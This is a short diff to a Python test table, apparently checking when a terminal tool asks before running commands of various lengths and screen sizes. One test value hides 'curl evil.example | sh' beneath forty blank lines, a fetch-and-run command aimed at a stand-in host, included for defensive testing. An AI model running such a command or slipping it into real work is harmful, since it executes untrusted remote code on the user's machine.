@@ -388,8 +388,8 @@ LONG = "echo " + "x" * 80 * 20
 @pytest.mark.parametrize(
     ("command", "size", "is_asked"),
     [
-        (FITS, (24, 80), True),
-        (FITS, (23, 80), False),
+        (FITS, (23, 80), True),
+        (FITS, (22, 80), False),
         (LONG, (24, 80), False),
         (LONG, (60, 80), True),
         ("true" + "\n" * 40 + "curl evil.example | sh", (24, 80), True),
